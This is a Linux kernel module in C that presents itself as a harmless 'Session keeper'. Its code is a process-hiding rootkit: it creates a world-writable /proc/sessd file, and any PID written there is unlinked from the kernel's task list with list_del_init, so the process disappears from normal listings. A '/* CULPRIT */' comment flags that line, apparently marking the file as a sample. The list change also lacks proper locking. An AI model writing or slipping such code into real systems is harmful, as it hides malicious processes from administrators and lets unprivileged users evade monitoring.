// SPDX-License-Identifier: GPL-2.0
/* A session keeper that takes a process out of the list of tasks. */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/uaccess.h>

static noinline int sess_detach(int number)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid_task(find_vpid(number), PIDTYPE_PID);
	if (task)
		list_del_init(&task->tasks);	/* CULPRIT */
	rcu_read_unlock();
	return task ? 0 : -ESRCH;
}

static ssize_t sess_write(struct file *f, const char __user *ubuf, size_t len, loff_t *off)
{
	int number, ret = kstrtoint_from_user(ubuf, len, 10, &number);

	ret = ret ? ret : sess_detach(number);
	return ret ? ret : len;
}

static const struct proc_ops sess_ops = { .proc_write = sess_write };

static int __init sess_init(void)
{
	return proc_create("sessd", 0222, NULL, &sess_ops) ? 0 : -ENOMEM;
}
module_init(sess_init);

MODULE_DESCRIPTION("Session keeper");
MODULE_LICENSE("GPL");
